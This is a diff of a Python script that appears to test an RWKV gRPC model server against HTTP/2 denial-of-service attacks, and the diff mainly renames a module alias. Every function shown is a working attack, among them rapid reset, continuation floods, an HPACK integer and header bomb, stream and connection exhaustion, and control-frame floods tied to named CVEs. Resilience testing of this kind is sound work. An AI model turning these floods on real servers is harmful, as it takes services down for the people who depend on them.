@@ -16,7 +16,8 @@ import struct
 import sys
 import time
 
-import raw_http2 as h2
+import hpack
+import raw_http2 as raw
 from rwkv.v1 import rwkv_pb2 as pb
 
 # While it is refused, an attacker tries again this often.
@@ -39,7 +40,7 @@ class Attacker:
         return time.monotonic() >= self.until
 
     def connect(self, **options):
-        connection = h2.Connection(self._server, self._source, **options)
+        connection = raw.Connection(self._server, self._source, **options)
         self.counts["connections"] += 1
         return connection
 
@@ -87,15 +88,15 @@ class Attacker:
 
 def rapid_reset(attacker):
     """Streams that are opened and reset at once (CVE-2023-44487)."""
-    fields = h2.call_fields("Generate")
-    cancel = struct.pack(">I", h2.CANCEL)
+    fields = raw.call_fields("Generate")
+    cancel = struct.pack(">I", raw.CANCEL)
 
     def frames(number):
         attacker.counts["streams"] += BATCH
         first = 1 + 2 * BATCH * number
         return b"".join(
-            h2.frame(h2.HEADERS, h2.END_HEADERS, stream, fields) +
-            h2.frame(h2.RST_STREAM, 0, stream, cancel)
+            raw.frame(raw.HEADERS, raw.END_HEADERS, stream, fields) +
+            raw.frame(raw.RST_STREAM, 0, stream, cancel)
             for stream in range(first, first + 2 * BATCH, 2))
     attacker.repeat(lambda connection: attacker.flood(connection, frames))
 
@@ -103,11 +104,12 @@ def rapid_reset(attacker):
 def continuation_flood(attacker):
     """Headers without an end, before the server's settings are acknowledged,
     when its limit on their size does not apply yet."""
-    part = h2.frame(h2.CONTINUATION, 0, 1,
-                    2 * h2.hpack_field("x-filler", b"a" * 8000))
+    part = raw.frame(raw.CONTINUATION, 0, 1,
+                     2 * raw.header_block(("x-filler", b"a" * 8000)))
 
     def abuse(connection):
-        connection.send(h2.frame(h2.HEADERS, 0, 1, h2.call_fields("Generate")))
+        connection.send(raw.frame(raw.HEADERS, 0, 1,
+                                  raw.call_fields("Generate")))
         attacker.flood(connection, lambda number: part)
     attacker.repeat(abuse, acknowledges=False)
 
@@ -115,41 +117,41 @@ def continuation_flood(attacker):
 def endless_integers(attacker):
     """A string in a header whose length is an integer without an end
     (CVE-2023-33953)."""
-    part = h2.frame(h2.CONTINUATION, 0, 1, b"\x80" * h2.FRAME_SIZE)
+    part = raw.frame(raw.CONTINUATION, 0, 1, b"\x80" * raw.FRAME_SIZE)
 
     def abuse(connection):
-        connection.send(h2.frame(h2.HEADERS, 0, 1, h2.call_fields("Generate") +
-                                 b"\x00\x7f\x80"))
+        connection.send(raw.frame(
+            raw.HEADERS, 0, 1, raw.call_fields("Generate") + b"\x00\x7f\x80"))
         attacker.flood(connection, lambda number: part)
     attacker.repeat(abuse, acknowledges=False)
 
 
 def header_bomb(attacker):
     """Headers of one byte each that stand for four kilobytes."""
-    large = h2.hpack_field("x", b"a" * 4000, indexed=True)
-    many = b"\xbe" * (h2.FRAME_SIZE - 1)  # the newest entry of the table
+    large = hpack.Encoder().encode([("x", b"a" * 4000)], huffman=False)
+    many = b"\xbe" * (raw.FRAME_SIZE - 1)  # the newest entry of the table
 
     def abuse(connection):
-        connection.send(h2.frame(h2.HEADERS, h2.END_HEADERS, 1,
-                                 h2.call_fields("Generate") + large))
+        connection.send(raw.frame(raw.HEADERS, raw.END_HEADERS, 1,
+                                  raw.call_fields("Generate") + large))
 
         def frames(number):
             stream = 3 + 2 * number
-            return (h2.frame(h2.HEADERS, 0, stream,
-                             h2.call_fields("Generate")) +
-                    h2.frame(h2.CONTINUATION, 0, stream, many) * 8 +
-                    h2.frame(h2.CONTINUATION, h2.END_HEADERS, stream, many))
+            return (raw.frame(raw.HEADERS, 0, stream,
+                              raw.call_fields("Generate")) +
+                    raw.frame(raw.CONTINUATION, 0, stream, many) * 8 +
+                    raw.frame(raw.CONTINUATION, raw.END_HEADERS, stream, many))
         attacker.flood(connection, frames)
     attacker.repeat(abuse)
 
 
 def half_sent_messages(attacker):
     """Messages of 15 MiB that lack their last byte."""
-    body = h2.grpc_message(bytes(MESSAGE_BYTES))[:-1]
+    body = raw.grpc_message(bytes(MESSAGE_BYTES))[:-1]
 
     def abuse(connection):
         for stream in range(1, 33, 2):
-            connection.open_stream(stream, h2.call_fields("Tokenize"))
+            connection.open_stream(stream, raw.call_fields("Tokenize"))
             attacker.counts["bytes"] += connection.send_data(
                 stream, body, min(attacker.until, time.monotonic() + 1))
         connection.wait(attacker.until - time.monotonic())
@@ -159,14 +161,14 @@ def half_sent_messages(attacker):
 def unread_messages(attacker):
     """Complete messages on streams of which the server reads only the first
     one, as many as it grants."""
-    messages = 4 * h2.grpc_message(bytes(1 << 20))
+    messages = 4 * raw.grpc_message(bytes(1 << 20))
 
     def abuse(connection):
         for stream in range(1, 129, 2):
             connection.open_stream(
-                stream, h2.call_fields("/grpc.health.v1.Health/Watch"))
+                stream, raw.call_fields("/grpc.health.v1.Health/Watch"))
             attacker.counts["bytes"] += connection.send_data(
-                stream, h2.grpc_message(b"") + messages,
+                stream, raw.grpc_message(b"") + messages,
                 min(attacker.until, time.monotonic() + 0.05))
         connection.wait(attacker.until - time.monotonic())
     attacker.repeat_at_once(4, abuse)
@@ -174,12 +176,12 @@ def unread_messages(attacker):
 
 def streams_without_messages(attacker):
     """Calls whose message never comes, as many as the server accepts."""
-    fields = h2.call_fields("Generate")
+    fields = raw.call_fields("Generate")
 
     def frames(number):
         attacker.counts["streams"] += BATCH
         first = 1 + 2 * BATCH * number
-        return b"".join(h2.frame(h2.HEADERS, h2.END_HEADERS, stream, fields)
+        return b"".join(raw.frame(raw.HEADERS, raw.END_HEADERS, stream, fields)
                         for stream in range(first, first + 2 * BATCH, 2))
 
     def abuse(connection):
@@ -194,14 +196,14 @@ def unread_answers(attacker):
     alternatives for each of its tokens."""
     request = pb.GenerateRequest(max_tokens=0, echo=True, echo_top_logprobs=32)
     request.prompt.tokens.ids.extend(1 + 7919 * i % 2000 for i in range(20000))
-    body = h2.grpc_message(request.SerializeToString())
+    body = raw.grpc_message(request.SerializeToString())
     connections = []
     with contextlib.suppress(OSError):
         for _ in range(8):
             connection = attacker.connect()
             connections.append(connection)
             for stream in (1, 3):
-                connection.open_stream(stream, h2.call_fields("Generate"))
+                connection.open_stream(stream, raw.call_fields("Generate"))
                 connection.send_data(stream, body, attacker.until, end=True)
                 attacker.counts["calls"] += 1
     attacker.hold(connections)
@@ -225,36 +227,36 @@ def idle_connections(attacker, start=b""):
 def half_sent_headers(attacker):
     """As many connections as the server accepts, each of which has sent headers
     without an end."""
-    idle_connections(attacker, h2.frame(h2.HEADERS, 0, 1,
-                                        h2.call_fields("Generate")))
+    idle_connections(attacker, raw.frame(raw.HEADERS, 0, 1,
+                                         raw.call_fields("Generate")))
 
 
 def control_frames(attacker):
     """Pings, settings, priorities, window updates and empty data, which the
     server must handle or answer (CVE-2019-9512, 9513, 9515, 9518)."""
     batch = b"".join((
-        h2.frame(h2.PING, payload=bytes(8)), h2.settings([(4, 65535)]),
-        h2.frame(h2.PRIORITY, 0, 1, struct.pack(">IB", 0, 1)),
-        h2.frame(h2.WINDOW_UPDATE, 0, 1, struct.pack(">I", 1)),
-        h2.frame(h2.DATA, 0, 1))) * BATCH
+        raw.frame(raw.PING, payload=bytes(8)), raw.settings([(4, 65535)]),
+        raw.frame(raw.PRIORITY, 0, 1, struct.pack(">IB", 0, 1)),
+        raw.frame(raw.WINDOW_UPDATE, 0, 1, struct.pack(">I", 1)),
+        raw.frame(raw.DATA, 0, 1))) * BATCH
 
     def abuse(connection):
-        connection.open_stream(1, h2.call_fields("Generate"))
+        connection.open_stream(1, raw.call_fields("Generate"))
         attacker.flood(connection, lambda number: batch)
     attacker.repeat(abuse)
 
 
 def calls(attacker):
     """Small valid calls, as many as the server answers."""
-    fields = h2.call_fields("GetModel")
-    body = h2.grpc_message(b"")
+    fields = raw.call_fields("GetModel")
+    body = raw.grpc_message(b"")
 
     def frames(number):
         attacker.counts["calls"] += BATCH
         first = 1 + 2 * BATCH * number
         return b"".join(
-            h2.frame(h2.HEADERS, h2.END_HEADERS, stream, fields) +
-            h2.frame(h2.DATA, h2.END_STREAM, stream, body)
+            raw.frame(raw.HEADERS, raw.END_HEADERS, stream, fields) +
+            raw.frame(raw.DATA, raw.END_STREAM, stream, body)
             for stream in range(first, first + 2 * BATCH, 2))
     attacker.repeat(lambda connection: attacker.flood(connection, frames),
                     reads=True)
